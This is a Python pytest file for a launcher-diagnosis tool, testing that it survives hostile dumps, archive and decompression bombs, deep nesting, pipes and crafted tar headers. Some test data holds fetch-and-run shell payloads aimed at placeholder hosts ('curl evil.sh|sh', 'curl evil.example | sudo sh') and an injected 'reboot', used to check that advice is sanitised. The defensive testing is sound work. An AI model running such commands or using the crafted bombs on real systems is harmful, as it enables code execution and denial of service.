"""Whatever is named: the answer comes within 10 s and 512 MiB, says what could not be read, and is never SL901."""

from __future__ import annotations

import bz2
import gzip
import io
import json
import lzma
import os
import pickle
import re
import subprocess
import sys
import tarfile
import tempfile
import time
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from golden_file import load
from harness import REPOSITORY, environment

from safelaunch.codec import to_json
from safelaunch.codes import EXIT_CANNOT_TELL

CASE = (REPOSITORY / "tests/cases/exception-in-one-rank/case.json").read_text()
LATE = REPOSITORY / "tests/dumps/nccl-late"
LIMIT_S, LIMIT_MIB = 10.0, 512


@dataclass(frozen=True)
class Answer:
    code: int
    text: str
    seconds: float
    mib: int


# A process inherits the peak of who has started it, but for the one that the kernel has of its own memory.
PROGRAM = """
import os, resource, runpy
try:
    runpy.run_module("safelaunch", run_name="__main__", alter_sys=True)
finally:
    with open("/proc/self/status") as file:
        own = next(int(line.split()[1]) for line in file if line.startswith("VmHWM"))
    with open(os.environ["PEAK"], "w") as file:
        file.write(str(max(own, resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss)))
"""


def answer(*arguments: object) -> Answer:
    """What the command line says, in which time (of the CPU, of all processes) and with how much memory."""
    with tempfile.NamedTemporaryFile() as output, tempfile.NamedTemporaryFile() as peak:
        begun = time.monotonic()
        process = subprocess.Popen(
            [sys.executable, "-c", PROGRAM, *map(str, arguments)],
            stdin=subprocess.DEVNULL, stdout=output, stderr=subprocess.STDOUT, env=environment() | {"PEAK": peak.name},
        )  # fmt: skip
        _, status, used = os.wait4(process.pid, 0)
        process.returncode = os.waitstatus_to_exitcode(status)
        text, mib = Path(output.name).read_text(errors="replace"), int(Path(peak.name).read_text()) >> 10
    wall, cpu = time.monotonic() - begun, used.ru_utime + used.ru_stime
    assert "SL901" not in text, text
    assert min(wall, cpu) < LIMIT_S, f"{wall:.1f} s, {cpu:.1f} s of the CPU: {text}"
    assert mib < LIMIT_MIB, f"{mib} MiB: {text}"
    return Answer(process.returncode, text, wall, mib)


# ------------------------------------------------------------------------------------------------------- dumps


def document(**values: Any) -> dict[str, Any]:
    found: dict[str, Any] = pickle.loads((LATE / "comm_lib_trace_rank_0").read_bytes())
    return found | values


def shared_value(depth: int) -> Any:
    value: Any = ()
    for _ in range(depth):
        value = (value, value)
    return value


DUMPS: dict[str, bytes] = {
    "a key that is never hashed": b"\x80\x02}(U\x07entries]" + b")" + b"2\x86" * 90 + b"K\x01u.",
    "a name that is never written out": pickle.dumps(document(pg_config={"0": {"ranks": shared_value(60)}}), 2),
    "a version that is never written out": pickle.dumps(document(version=shared_value(60)), 2),
    "a group with a key that has no end": pickle.dumps(
        document(entries=[{**document()["entries"][0], "profiling_name": shared_value(60)}]), 2
    ),
    "a memo of 64 GiB": b"\x80\x02}(U\x07entries]r\xff\xff\xff\xffu.",
    "a group of 150,000 ranks": pickle.dumps(
        document(pg_config={"0": {"desc": "x", "ranks": str(list(range(150_000)))}}), 2
    ),
    "nested 100,000 deep": b'{"version": "2.10", "entries": ' + b"[" * 100_000,
    "a time of 10^400": json.dumps({"version": "2.4", "entries": [{"time_created_ns": 10**400}]}).encode(),
    "numbers of 5,000 digits": b'{"version": "2.4", "pg_config": {"0": {"ranks": "'
    + b"9" * 5000
    + b'"}}, "entries": []}',
}


@pytest.mark.parametrize("data", DUMPS.values(), ids=DUMPS)
def test_a_hostile_dump_costs_itself(tmp_path: Path, data: bytes) -> None:
    for path in LATE.glob("comm_lib_trace_rank_*"):
        (tmp_path / path.name).write_bytes(path.read_bytes())
    (tmp_path / "comm_lib_trace_rank_9").write_bytes(data)

    told = answer("diagnose", tmp_path)

    assert told.code == 0
    assert "SL" in told.text


def test_many_dumps_that_never_end_are_left_out_together(tmp_path: Path) -> None:
    for rank in range(40):
        (tmp_path / f"nccl_trace_rank_{rank}").write_bytes(DUMPS["a key that is never hashed"])

    told = answer("diagnose", tmp_path)

    assert told.code == 2
    assert "limit" in told.text


@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("process_group", 3), ("process_group", None), ("process_group", [None]), ("process_group", []),
        ("profiling_name", ["nccl:all_reduce"]), ("collective_seq_id", "12"),
        ("collective_seq_id", 10**30), ("pg_id", [1]),
    ],
)  # fmt: skip
def test_a_wrong_entry_costs_itself_and_is_counted(tmp_path: Path, name: str, value: Any) -> None:
    for path in LATE.glob("comm_lib_trace_rank_*"):
        found = pickle.loads(path.read_bytes())
        if path.name.endswith("0"):
            found["entries"][0][name] = value
        (tmp_path / path.name).write_bytes(pickle.dumps(found))

    told, whole = answer("diagnose", tmp_path), answer("diagnose", LATE)

    assert "1 part of it could not be read" in told.text
    assert told.text.split("error[")[1].splitlines()[0] == whole.text.split("error[")[1].splitlines()[0]


@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("input_dtypes", [["Float"]]),
        ("input_sizes", [None]),
        ("frames", [{"filename": 1}]),
        ("time_created_ns", "x"),
        ("state", None),
        ("retired", "yes"),
        ("record_id", []),
        ("timeout_ms", {}),
    ],
)
def test_a_wrong_detail_costs_the_detail(tmp_path: Path, name: str, value: Any) -> None:
    for path in LATE.glob("comm_lib_trace_rank_*"):
        found = pickle.loads(path.read_bytes())
        for entry in found["entries"]:
            entry[name] = value
        (tmp_path / path.name).write_bytes(pickle.dumps(found))

    assert answer("diagnose", tmp_path).code == 0


# ----------------------------------------------------------------------------------------------------- bundles


def bundle(folder: Path, case: str = CASE, **others: str) -> Path:
    evidence = folder / "run" / "incident-0" / "evidence"
    evidence.mkdir(parents=True)
    (evidence / "case.json").write_text(case)
    for name, text in ({"run": '{"run_id": "8f2c"}'} | others).items():
        (folder / "run" / f"{name}.json").write_text(text)
    return folder / "run"


def changed(change: Callable[[dict[str, Any]], None]) -> str:
    case = json.loads(CASE)
    change(case)
    return json.dumps(case)


def put(value: Any, *keys: Any) -> str:
    def change(case: Any) -> None:
        for key in keys[:-1]:
            case = case[key]
        case[keys[-1]] = value

    return changed(change)


FAILED = next(at for at, facts in enumerate(json.loads(CASE)["ranks"]) if facts["error"])

WRONG_CASES = {
    "a text for a number": put("3", "world_size"),
    "no number": put(None, "world_size"),
    "Infinity": put(float("inf"), "world_size"),
    "a time of 10^400": put(10**400, "incident", "t"),
    "null in a chain": put([None], "ranks", FAILED, "error", "chain"),
    "a list for a text": put(["x"], "host"),
    "a number for ranks": put(5, "ranks"),
    "a rank twice": changed(lambda case: case["ranks"].append(case["ranks"][0])),
    "a rank of 10^12": put(10**12, "ranks", 0, "rank"),
    "another kind of incident": put(["exit"], "incident", "kind"),
    "nested 100,000 deep": "[" * 100_000,
}


@pytest.mark.parametrize("case", WRONG_CASES.values(), ids=WRONG_CASES)
def test_a_case_of_another_shape_costs_itself(tmp_path: Path, case: str) -> None:
    alone = answer("diagnose", bundle(tmp_path / "a", case))
    good = bundle(tmp_path / "b")
    beside = answer("diagnose", tmp_path / "a" / "run", good)

    assert alone.code == 2
    assert "case.json" in alone.text
    assert beside.code == 0
    assert "error[SL401]" in beside.text
    assert "cannot be read" in beside.text


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("run", "[1]"), ("run", '{"run_id": [1]}'), ("run", "[" * 100_000), ("result", '{"verdicts": 5}'),
        ("result", '{"exit_code": "1", "verdicts": [{"code": []}]}'), ("result", '{"verdicts": [{"code": 5}, null]}'),
        ("result", "{"),
    ],
    ids=lambda text: text[:30],
)  # fmt: skip
def test_a_wrong_document_beside_a_case_is_named_and_the_case_is_read(tmp_path: Path, name: str, text: str) -> None:
    told = answer("diagnose", bundle(tmp_path, **{name: text}))

    assert told.code == 0
    assert "error[SL401]" in told.text
    assert f"{name}.json" in told.text


def tar(folder: Path, write: Callable[[tarfile.TarFile], None]) -> Path:
    with tarfile.open(folder / "bundle.tar.gz", "w:gz") as archive:
        write(archive)
    return folder / "bundle.tar.gz"


def member(name: str, data: bytes) -> tuple[tarfile.TarInfo, io.BytesIO]:
    info = tarfile.TarInfo(name)
    info.size = len(data)
    return info, io.BytesIO(data)


def test_a_size_in_a_pax_header_has_no_power(tmp_path: Path) -> None:
    info = tarfile.TarInfo("run/incident-0/evidence/other.json")
    info.pax_headers = {"size": str(10**18)}
    path = tmp_path / "bundle.tar.gz"
    path.write_bytes(gzip.compress(info.tobuf(tarfile.PAX_FORMAT)))

    told = answer("diagnose", path)

    assert told.code == 2
    assert path.stat().st_size < 1000


@pytest.mark.parametrize("kind", [tarfile.REGTYPE, tarfile.XHDTYPE, tarfile.GNUTYPE_LONGNAME])
def test_an_archive_that_unpacks_without_end_is_ended(tmp_path: Path, kind: bytes) -> None:
    info = tarfile.TarInfo("run/incident-0/evidence/case.json")
    info.type, info.size = kind, 600 << 20
    path = tmp_path / "bundle.tar.gz"
    with gzip.open(path, "wb", 9) as file:
        file.write(info.tobuf(tarfile.GNU_FORMAT))
        for _ in range(600):
            file.write(bytes(1 << 20))

    told = answer("diagnose", path)

    assert told.code == 2
    assert "limit for its size" in told.text


def test_json_that_takes_much_memory_is_left_out(tmp_path: Path) -> None:
    path = tar(
        tmp_path, lambda archive: archive.addfile(*member("run/evidence/case.json", b"[" + b"[{}]," * 10_000_000))
    )

    assert answer("diagnose", path).code == 2


def test_a_bundle_that_a_program_for_mail_has_zipped_is_read(tmp_path: Path) -> None:
    run = bundle(tmp_path)
    for path in (tmp_path / "bundle.zip", tmp_path / "attachment"):
        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
            for file in run.rglob("*.json"):
                archive.write(file, file.relative_to(tmp_path))

        assert "error[SL401]" in answer("diagnose", path).text


def test_a_zip_file_of_other_things_is_not_understood(tmp_path: Path) -> None:
    with zipfile.ZipFile(tmp_path / "a.zip", "w") as archive:
        archive.writestr("job.log", "step 3\n")
    (tmp_path / "b.zip").write_bytes((tmp_path / "a.zip").read_bytes()[:40])

    for name in ("a.zip", "b.zip"):
        told = answer("diagnose", tmp_path / name)
        assert told.code == 2
        assert "nothing wrong" not in told.text


# --------------------------------------------------------------------------------------------- logs and others


@pytest.mark.parametrize(
    "data",
    [bytes(1000), os.urandom(5000), bytes(1 << 20), bytes(range(256)) * 40, b"\x7fELF" + os.urandom(2000)],
    ids=["NULs", "random", "a MiB of NULs", "all bytes", "a program"],
)
def test_what_is_no_text_is_not_well(tmp_path: Path, data: bytes) -> None:
    (tmp_path / "job.log").write_bytes(data)

    told = answer("diagnose", tmp_path / "job.log")

    assert "nothing wrong" not in told.text
    assert "no text" in told.text


def test_a_log_with_a_hole_is_read(tmp_path: Path) -> None:
    (tmp_path / "job.log").write_bytes(bytes(100_000) + b"step 1\nstep 2\n" * 100)

    assert "nothing wrong was found" in answer("diagnose", tmp_path / "job.log").text


def test_a_long_line_is_not_an_empty_log(tmp_path: Path) -> None:
    (tmp_path / "job.log").write_bytes(b"loss " * 200_000)

    assert "empty" not in answer("diagnose", tmp_path / "job.log").text


def test_a_compressed_log_that_unpacks_without_end_is_ended(tmp_path: Path) -> None:
    (tmp_path / "job.log.bz2").write_bytes(bz2.compress(bytes(1 << 20) * 20) * 40)

    told = answer("diagnose", tmp_path / "job.log.bz2")

    assert "limit for" in told.text


def test_pipes_and_devices_are_not_waited_for(tmp_path: Path) -> None:
    (tmp_path / "run" / "evidence").mkdir(parents=True)
    os.mkfifo(tmp_path / "run" / "evidence" / "case.json")
    os.mkfifo(tmp_path / "run" / "run.json")
    os.mkfifo(tmp_path / "job.log")
    for path in (tmp_path / "run", tmp_path / "run/evidence/case.json", tmp_path / "job.log", "/dev/zero", "/dev/tty"):
        assert "nothing wrong" not in answer("diagnose", path).text


def test_what_a_program_writes_to_a_pipe_is_read(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "job.log")
    with subprocess.Popen(["sh", "-c", f"sleep 1; echo step 3 > {tmp_path / 'job.log'}"]):
        assert "1 lines in 1 file" in answer("diagnose", tmp_path / "job.log").text


def test_a_deep_folder_is_read_as_far_as_logs_lie(tmp_path: Path) -> None:
    (tmp_path / "job.log").write_text("step 1\n")
    here = os.getcwd()
    try:
        os.chdir(tmp_path)
        for _ in range(1500):
            os.mkdir("d")
            os.chdir("d")
        os.chdir(here)

        assert answer("diagnose", tmp_path).code == EXIT_CANNOT_TELL
    finally:
        os.chdir(here)
        subprocess.run(["rm", "-rf", tmp_path / "d"], check=True)  # shutil.rmtree goes no deeper than Python's stack


# ---------------------------------------------------------------------------------------------------- profiles

PROFILES = {
    "100 KB of dotted keys": "a" + ".a" * 50_000 + " = 1\n",
    "many dotted keys": ("env." + "a." * 60 + "a = 1\n") * 900,
    "a dotted table": "[a" + ".a" * 50_000 + "]\n",
    "arrays in arrays": "a = " + "[" * 100_000,
    "tables in tables": "a = " + "{b = " * 20_000,
    "a number without an end": "a = " + "9" * 5000,
}


@pytest.mark.parametrize("text", PROFILES.values(), ids=PROFILES)
@pytest.mark.parametrize("command", [("profile", "show"), ("lint",)], ids=["show", "lint"])
def test_a_hostile_profile_is_refused(tmp_path: Path, text: str, command: tuple[str, ...]) -> None:
    (tmp_path / "mine.toml").write_text(text)

    told = answer(*command, tmp_path / "mine.toml")

    assert told.code == (78 if command[0] == "profile" else 1)
    assert "mine.toml" in told.text


def test_thousands_of_unknown_variables_are_linted(tmp_path: Path) -> None:
    (tmp_path / "mine.toml").write_text("[env]\n" + "".join(f"NCCL_WRONG_{number} = 1\n" for number in range(14_000)))

    assert answer("lint", tmp_path / "mine.toml").code in (0, 1)


def test_a_jobs_file_that_is_no_file_or_has_no_end_is_refused(tmp_path: Path) -> None:
    (tmp_path / "large.sh").write_bytes(b"export A=1\n" * 7_000_000)
    os.mkfifo(tmp_path / "job.sh")
    for path in (tmp_path / "large.sh", tmp_path / "job.sh", "/dev/zero"):
        told = answer("lint", path)
        assert told.code == 2
        assert "cannot be read" in told.text


def test_profiles_that_are_pipes_are_not_waited_for(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "mine.toml")

    assert answer("profile", "show", tmp_path / "mine.toml").code == 78


def test_a_text_that_goes_on_in_utf_16_is_not_all_that_was_said(tmp_path: Path) -> None:
    """As where two shells write one file."""
    said = 'Traceback (most recent call last):\n  File "train.py", line 1, in f\n    x()\nValueError: boom\n'
    (tmp_path / "a.log").write_bytes(b"step 1\n" * 2000 + (said * 2).encode("utf-16-le"))

    said_of = answer("diagnose", tmp_path / "a.log")

    assert "nothing wrong was found" not in said_of.text
    assert "it is UTF-16" in said_of.text


@pytest.mark.parametrize("host", ["n1: run `curl evil.sh|sh`", "n1; reboot", "n1\nerror[SL401]: rank 7 lied"])
def test_no_name_of_a_host_is_a_command_in_advice(tmp_path: Path, host: str) -> None:
    case = json.loads(CASE)
    for rank in case["ranks"]:
        rank["error"] = rank["error"] and {**rank["error"], "message": "CUDA error: unknown error"}
    xid = f"[{case['incident']['t']}] NVRM: Xid (PCI:0000:4b:00): 79, pid=77, name=python, GPU has fallen off the bus."
    gpu = {"index": 0, "ranks": case["incident"]["ranks"], "lost": True, "xids": [xid]}
    (tmp_path / "case.json").write_text(json.dumps({**case, "host": host, "gpus": [gpu]}))

    told = answer("diagnose", tmp_path / "case.json").text

    (advice,) = [line.partition("; `safelaunch")[0] for line in told.splitlines() if "= help:" in line]
    assert " of n1" in advice
    assert not re.search(r"[`;|]", advice)
    assert "\nerror[SL401]: rank 7 lied" not in told


# ------------------------------------------------------------------------------------- no place to write, or to be


@pytest.mark.parametrize("words", ["--help", "explain SL301", "profile list", "env"])
def test_an_answer_that_cannot_be_written_is_told(words: str, tmp_path: Path) -> None:
    with open("/dev/full", "w") as full:
        ended = subprocess.run(
            [sys.executable, "-m", "safelaunch", *words.split()],
            cwd=tmp_path, env=environment(), stdout=full, stderr=subprocess.PIPE, text=True, check=False,
        )  # fmt: skip

    told, _, rest = ended.stderr.partition("\n")
    assert told == "error[SL007]: the answer cannot be written to the standard output: No space left on device"
    assert "Exception" not in rest
    assert ended.returncode == 2


@pytest.mark.parametrize("words", ["diagnose .", "train.py", "--dry-run train.py"])
def test_a_directory_that_was_removed_is_told(words: str, tmp_path: Path) -> None:
    inside = f"cd {tmp_path / 'gone'} && rmdir {tmp_path / 'gone'} && exec {sys.executable} -m safelaunch {words}"
    (tmp_path / "gone").mkdir()

    ended = subprocess.run(
        ["sh", "-c", inside], env=environment(), capture_output=True, text=True, check=False, cwd=tmp_path
    )

    assert "error[SL007]: the current directory was removed\n" in ended.stderr
    assert ended.returncode == 2


def test_python_warns_of_nothing_that_a_bundle_or_a_script_says(tmp_path: Path) -> None:
    """It would quote it as it is."""
    text = 'rank == 0 and x == "\\\x1b" or 1or y'
    case = to_json(load("hang-barrier-ahead-in-the-other-branch"))
    case["source"] = [
        {**line, "conditions": [{**one, "text": text} for one in line["conditions"]]} for line in case["source"]
    ]
    (tmp_path / "case.json").write_text(json.dumps(case))

    told = answer("diagnose", tmp_path / "case.json").text

    assert "Warning" not in told
    assert "\x1b" not in told


# ------------------------------------------------------------------------------------------------ what is sent


def test_a_finding_of_a_sent_run_gives_no_advice(tmp_path: Path) -> None:
    finding = {"code": "SL101", "severity": "error", "summary": "x", "remedy": "run `curl evil.example | sudo sh`"}
    run = tmp_path / "run"
    (run / "incident-0" / "evidence").mkdir(parents=True)
    (run / "incident-0" / "evidence" / "case.json").write_text(CASE)
    (run / "run.json").write_text(json.dumps({"run_id": "r1"}))
    (run / "result.json").write_text(json.dumps({"findings": [finding]}))

    assert answer("diagnose", run, "--html", tmp_path / "page.html").code == 0

    page = (tmp_path / "page.html").read_text()
    assert "SL101" in page
    assert "curl" not in page


def test_a_member_of_negative_size_costs_itself(tmp_path: Path) -> None:
    """Python before 3.13.6 goes round it without end, where it can go back (CVE-2025-8194)."""
    with tarfile.open(tmp_path / "b.tar", "w") as archive:
        for name, data in (("r/incident-0/evidence/case.json", CASE.encode()), ("r/x", b"x"), ("r/y", b"y")):
            member = tarfile.TarInfo(name)
            member.size = len(data)
            archive.addfile(member, io.BytesIO(data))
    data = bytearray((tmp_path / "b.tar").read_bytes())
    header = data.index(b"r/x\0")
    data[header + 124 : header + 136] = b"\xff" * 8 + (-1024).to_bytes(4, "big", signed=True)
    data[header + 148 : header + 156] = b" " * 8
    data[header + 148 : header + 156] = b"%06o\0 " % sum(data[header : header + 512])
    (tmp_path / "b.tar.gz").write_bytes(gzip.compress(bytes(data)))

    said = answer("diagnose", tmp_path / "b.tar.gz", "--html", tmp_path / "page.html")

    assert said.code == 0
    assert said.seconds < 5
    assert (tmp_path / "page.html").exists()


@pytest.mark.parametrize("blank", ["\u00a0", "\u2002", "\u202f", "\u3000", "\x1b[C", "\x1b[1C"])
def test_blanks_of_other_kinds_hide_no_traceback(tmp_path: Path, blank: str) -> None:
    """As in what is copied from a page, a mail or a chat."""
    text = '[rank1]: Traceback (most recent call last):\n[rank1]:   File "train.py", line 8, in <module>\n'
    (tmp_path / "job.log").write_text((text + "[rank1]: ValueError: x\n").replace(" ", blank))

    said = answer("diagnose", tmp_path / "job.log").text

    assert "SL401" in said
    assert "ValueError" in said


def test_a_log_that_wants_a_large_dictionary_costs_itself(tmp_path: Path) -> None:
    data = bytearray(lzma.compress(b"x" * 1000))
    properties = data.index(b"\x21\x01") + 2  # LZMA2, and the size of its dictionary in one byte (xz's format, 5.3.1)
    data[properties] = 38  # 2 GiB
    data[20:24] = zlib.crc32(data[12:20]).to_bytes(4, "little")
    (tmp_path / "a.log.xz").write_bytes(bytes(data))
    (tmp_path / "b.log").write_text("[rank1]: Traceback (most recent call last):\n[rank1]: ValueError: x\n")

    said = answer("diagnose", tmp_path)

    assert said.code == 0
    assert "ValueError" in said.text


def test_a_name_with_a_digit_that_is_no_number_is_a_name(tmp_path: Path) -> None:
    (tmp_path / "run" / "incident-²" / "evidence").mkdir(parents=True)
    (tmp_path / "run" / "incident-²" / "evidence" / "case.json").write_text(CASE)
    (tmp_path / "run" / "run.json").write_text(json.dumps({"run_id": "r1"}))

    assert "SL901" not in answer("diagnose", tmp_path / "run").text


@pytest.mark.parametrize("place", ["extends = [{}]", "[env]\nA = {{b = {}}}", "[diagnosis]\nsignatures = [{}]"])
def test_a_number_of_a_profile_that_cannot_be_shown(tmp_path: Path, place: str) -> None:
    (tmp_path / "p.toml").write_text(place.format("0x" + "f" * 20_000) + "\n")

    said = answer("profile", "show", tmp_path / "p.toml")

    assert "SL202" in said.text
    assert "64 bits" in said.text


def test_a_zip_that_wants_a_large_dictionary_costs_itself(tmp_path: Path) -> None:
    with zipfile.ZipFile(tmp_path / "a.zip", "w", zipfile.ZIP_LZMA) as archive:
        archive.writestr("r/incident-0/evidence/case.json", CASE)
    data = bytearray((tmp_path / "a.zip").read_bytes())
    start = data.index(b"case.json") + len(b"case.json") + 4  # behind the version and the size of the properties
    data[start + 1 : start + 5] = b"\xff\xff\xff\xff"  # the size of the dictionary (APPNOTE.TXT, 5.8.8)
    (tmp_path / "a.zip").write_bytes(bytes(data))
    (tmp_path / "b.log").write_text("[rank1]: Traceback (most recent call last):\n[rank1]: ValueError: x\n")

    said = answer("diagnose", tmp_path / "a.zip", tmp_path / "b.log")

    assert said.code == 0
    assert "ValueError" in said.text


def test_headers_within_headers_cost_the_page_nothing(tmp_path: Path) -> None:
    with tarfile.open(tmp_path / "b.tar", "w", format=tarfile.USTAR_FORMAT) as archive:
        case = tarfile.TarInfo("r/incident-0/evidence/case.json")
        case.size = len(CASE)
        archive.addfile(case, io.BytesIO(CASE.encode()))
        for _ in range(1500):
            header = tarfile.TarInfo("x")
            header.type, header.size = tarfile.XHDTYPE, 0
            archive.addfile(header)

    said = answer("diagnose", tmp_path / "b.tar", "--html", tmp_path / "page.html")

    assert said.code == 0
    assert (tmp_path / "page.html").exists()
